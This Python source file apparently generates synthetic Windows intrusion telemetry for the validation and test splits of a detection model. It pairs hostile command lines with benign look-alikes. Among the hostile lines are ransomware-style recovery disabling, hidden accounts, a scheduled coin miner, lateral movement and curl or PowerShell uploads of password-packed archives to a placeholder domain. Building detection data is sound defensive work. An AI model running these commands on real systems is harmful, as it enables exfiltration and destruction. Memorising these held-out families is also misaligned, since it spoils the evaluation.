"""Intrusions of several steps and other tellings, for the splits that choose and test models: every rule here has a training family."""

from __future__ import annotations

from schema import Host
from tasks.families.tellings import (
    Row,
    Telling,
    chained,
    control,
    file,
    made,
    order,
    script,
    setting,
    start,
    task,
    tell,
)
from tasks.paths import SYSTEM32
from tasks.scene import GRAVE, HOST, TOOL, Actor, Family, Plan, Scene, TicketScope

_CMD = SYSTEM32 + "cmd.exe"
_TEMP = "C:\\Users\\{user}\\AppData\\Local\\Temp\\"
_LATER = (60, 500)  # seconds between the steps of an intrusion

Step = tuple[Telling, Telling]  # its lines, hostile and harmless


def _step(program: str, hostile: str, harmless: str) -> Step:
    """Make a step of one program's start with either arguments."""
    return [order(program, hostile, after=_LATER)], [order(program, harmless, after=_LATER)]


def _shell(hostile: str, harmless: str) -> Step:
    return _step("cmd.exe", f"/c {hostile}", f"/c {harmless}")


def _powershell(hostile: str, harmless: str) -> Step:
    return _step("powershell.exe", f"-NoLogo -Command {hostile}", f"-NoLogo -Command {harmless}")


def _attachment(folder: str) -> Telling:
    return [start(f"{_TEMP}{folder}\\{{word}}.exe", f'"{_TEMP}{folder}\\{{word}}.exe"')]


def _stopping(verb: str) -> Telling:
    names = ("{word2}", "{word3}", "{word4}", "{word5}", "{word6}", "{word7}", "{word8}")
    return [order("cmd.exe", f"/c sc {verb} {name}", after=(2, 25)) for name in names]


def _notes(*names: str) -> Telling:
    folders = ("Desktop", "Documents", "Pictures", "Downloads", "Videos")
    return [
        file(f"C:\\Users\\{{user}}\\{folder}\\{name}", "D:\\{word10}\\{word11}.exe", after=(1, 20))
        for folder, name in zip(folders, names, strict=True)
    ]


def _upload(program: str) -> Row:
    fields = {
        "src_ip": "{ip}",
        "dst_ip": "{address}",
        "dst_port": 443,
        "bytes_out": tuple(range(62_000_011, 280_000_000, 8_765_431)),
        "direction": "outbound",
        "process_path": program,
        "dst_scope": "external",
    }
    return Row("net_conn", "flow", fields, after=(5, 200))


_SAFE = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Network\\{word}\\(Default)"
_USUAL = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\{word}\\(Default)"
_LIST = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\\{word2}"


# ---------------------------------------------------------------- from outside
def _knock(scene: Scene, plan: Plan, hostile: bool) -> tuple[Actor, float, float]:
    """Write how a stranger tries the file sharing of hosts; of the same two where it is not hostile. Return the first and when."""
    first_host, stranger = scene.host(plan.on_crown_jewel), scene.public_address()
    others = [host for host in scene.organisation.hosts.values() if host["name"] != first_host["name"]]
    targets: list[Host] = [first_host, *scene.some(others, 6 if hostile else 1)]
    first = last = scene.moment(900)
    for index in range(7):
        target = targets[index % len(targets)]
        scene.add(
            last,
            "net_conn",
            scene.pick(("flow", "allow")),
            target["name"],
            src_ip=stranger,
            dst_ip=target["ip"],
            dst_port=scene.pick((445, 139)),
            direction="inbound",
            dst_scope="internal",
        )
        last += scene.between(1, 11)
    account = scene.account(plan.privileged)["name"]
    return Actor(first_host["name"], first_host["ip"], account), first, last


def _borrow(program: str) -> Telling:
    fields = {"user_name": "{other_user}", "target_hostname": "{other_host}", "process_path": program}
    return [Row("logon", "explicit_credentials", fields)]


def _from_outside(scene: Scene, plan: Plan, after: Step) -> TicketScope:
    """Tell how a stranger knocks, and something happens on the first host after that; either alone in half of the story."""
    knocks, goes_on = {"confirmed": (True, True), "below": (False, False)}.get(
        plan.strength, scene.pick(((True, False), (False, True)))
    )
    who, first, last = _knock(scene, plan, knocks)
    _, last = tell(scene, who, after[not goes_on], last + scene.between(30, 600))
    return who.scope("", first, last)


def knocked_and_borrowed(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a stranger tries file sharing, and a program there signs in elsewhere under another's name.

    Source: ATT&CK T1135 before T1078, as worms that spread over file sharing with collected passwords do (ATT&CK S0606, S0368).
    """
    return _from_outside(
        scene,
        plan,
        (_borrow("C:\\Users\\{user}\\Downloads\\{word}.exe"), _borrow("C:\\Program Files\\{word}\\{word}.exe")),
    )


def knocked_and_trusted(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a stranger tries file sharing, and somebody makes the domain trust another after that.

    Source: ATT&CK T1018 and T1484.002, in the order of ATT&CK's campaign C0024.
    """
    name = "trust {domain}"
    return _from_outside(
        scene, plan, ([control("trust", name, "created")], [control("trust", name, "created", user="{host}$")])
    )


VALIDATION: tuple[Family, ...] = (
    # A mail's archive brings a remote tool (CISA's advisory AA23-025A, ATT&CK T1219), and that is made to last by a tunnel (T1572).
    chained(
        "mailed_tool",
        "T1566.001",
        "initial_access",
        ("attachment-opened", "remote-tool-installed", "tunnel-started"),
        [
            (_attachment("Temp1_{word2}.zip"), _attachment("{word2}_zip")),
            _step("msiexec.exe", "/i D:\\{word3}\\Splashtop_Streamer.msi /qn", "/i D:\\{word3}\\Splashtop_Streamer.msi"),
            _step("D:\\Tools\\cloudflared.exe", "tunnel --no-autoupdate run --token {token}", "service status --token {token}"),
        ],
        reaches=HOST,
        split="val_family",
    ),
    # Recovery is prevented, services are stopped, notes are left: ATT&CK S0446, S0640 and S1058 in their order.
    chained(
        "before_the_note",
        "T1486",
        "impact",
        ("ransom-note", "recovery-inhibited", "services-stopped"),
        [
            _step("bcdedit.exe", "/set recoveryenabled off", "/set recoveryenabled on"),
            (_stopping("stop"), _stopping("query")),
        ],
        ending=(_notes(*["RESTORE_{word9}3.txt"] * 5), _notes(*(f"RESTORE_{{word9}}{number}.txt" for number in range(1, 6)))),
        reaches=GRAVE,
        split="val_family",
    ),
    # Another's credentials open a host's drive, and a program starts there: ATT&CK T1134.002, T1021.002 and T1021.006 in their order.
    chained(
        "walked_on",
        "T1134.002",
        "privilege_escalation",
        ("saved-credentials-used", "share-mounted", "remote-execution"),
        [
            _shell("runas /netonly /user:{other_user} D:\\{word}.cmd", "runas /user:{other_user} D:\\{word}.cmd"),
            _shell("net use \\\\{other_host}\\c$ /persistent:no", "net use \\\\{other_host}\\docs /persistent:no"),
            _shell("winrs -r:{other_host} D:\\{word2}.cmd", "start D:\\{word2}.cmd"),
        ],
        explanations=("ticket",),
        reaches=HOST,
        split="val_family",
    ),
    # A task that mines: another line than a start holds the command (ATT&CK T1496.001 by T1053.005).
    made(
        "scheduled_miner",
        "T1496.001",
        "impact",
        ("coin-miner",),
        confirmed=[[task("C:\\Program Files\\{word}\\{word}.exe --algo=rx/0 -o {domain}:443", activity=act)] for act in ("create", "update")]
        + [[task("C:\\Program Files\\{word}\\{word}.exe -o stratum+tcp://{domain}:443", activity=act)] for act in ("create", "update")],
        below=[[task("C:\\Program Files\\{word}\\{word}.exe --algo=sha512 -o {domain}:443", activity=act)] for act in ("create", "update")]
        + [[task("C:\\Program Files\\{word}\\{word}.exe -o https://{domain}:443", activity=act)] for act in ("create", "update")],
        explanations=(),
        reaches=HOST,
        split="val_family",
    ),
    Family(
        "knocked_and_borrowed",
        "T1135",
        "discovery",
        knocked_and_borrowed,
        GRAVE,
        explanations=(),
        rules=("share-sweep", "borrowed-logon"),
        platform="network",
        split="val_family",
    ),
)  # fmt: skip
TEST: tuple[Family, ...] = (
    # Administrators are looked for, a drive is opened, files are packed and sent to storage: the order of ATT&CK's campaign C0015.
    chained(
        "staged_exit",
        "T1567.002",
        "exfiltration",
        ("copied-to-storage", "admin-discovery", "share-mounted", "data-collected"),
        [
            _step("nltest.exe", "/dclist:{word}", "/dsgetdc:{word}"),
            _step("net.exe", "use q: \\\\{other_host}\\d$", "use q: \\\\{other_host}\\team"),
            _step("C:\\Program Files\\WinRAR\\rar.exe", "a -hp{token} D:\\{word2}.rar Q:\\", "a -m5 D:\\{word2}.rar Q:\\"),
            _step("curl.exe", "-T D:\\{word2}.rar https://{domain}/{word4}", "-I D:\\{word2}.log https://{domain}/{word4}"),
        ],
        ending=([_upload(SYSTEM32 + "curl.exe")], [_upload(SYSTEM32 + "curl.exe")]),
        reaches=HOST,
        split="test_family",
    ),
    # A hidden account, a service for safe mode, a program with an old date, before a start without sensors: ATT&CK S1053, CISA's AA23-263A.
    chained(
        "unwatched_start",
        "T1562.009",
        "defense_evasion",
        ("safe-mode-entry", "account-hidden", "file-time-changed"),
        [
            (
                [setting(_LIST, "DWORD (0x00000000)", after=_LATER)],
                [setting(_LIST, "DWORD (0x00000001)", after=_LATER)],
            ),
            ([setting(_SAFE, "Service", after=_LATER)], [setting(_USUAL, "Service", after=_LATER)]),
            (
                [file("D:\\{word3}\\{word4}.exe", _CMD, "time_change", after=_LATER)],
                [file("D:\\{word3}\\{word4}.log", _CMD, "time_change", after=_LATER)],
            ),
        ],
        reaches=HOST,
        split="test_family",
    ),
    # Mail is exported, packed under a password and sent out, all by PowerShell: ATT&CK T1114.002, T1560.001 and T1048.002 in campaign C0024.
    chained(
        "mail_by_script",
        "T1114.002",
        "collection",
        ("mail-collected", "data-collected", "copied-to-storage"),
        [
            _powershell("New-MailboxExportRequest -Mailbox {other_user} -FilePath D:\\{word}", "Get-MailboxStatistics -Identity {other_user}"),
            _powershell("7z.exe a -p{token} D:\\{word2}.7z D:\\{word}", "7z.exe a -mx9 D:\\{word2}.7z D:\\{word}"),
            _powershell("Invoke-RestMethod https://{domain}/{word3} -Method Post -InFile D:\\{word2}.7z", "Invoke-RestMethod https://{domain}/{word3} -Method Head"),
        ],
        explanations=TOOL,
        reaches=HOST,
        split="test_family",
    ),
    # A script hands a program to a transfer job: another line than a start holds the command (ATT&CK T1197).
    made(
        "scripted_transfer",
        "T1197",
        "persistence",
        ("transfer-runs-command",),
        confirmed=[[script("bitsadmin /SetNotifyCmdLine {word} D:\\{word2}.exe NULL", "bitsadmin.exe /setnotifycmdline {word} D:\\{word2}.cmd NULL")]],
        below=[[script("bitsadmin /SetNotifyFlags {word} 3; Test-Path D:\\{word2}.exe", "bitsadmin.exe /getnotifycmdline {word}; Test-Path D:\\{word2}.cmd")]],
        explanations=TOOL,
        reaches=HOST,
        split="test_family",
    ),
    Family(
        "knocked_and_trusted",
        "T1484.002",
        "defense_evasion",
        knocked_and_trusted,
        GRAVE,
        explanations=(),
        rules=("trust-made", "share-sweep"),
        platform="network",
        split="test_family",
    ),
)  # fmt: skip
FAMILIES = (*VALIDATION, *TEST)
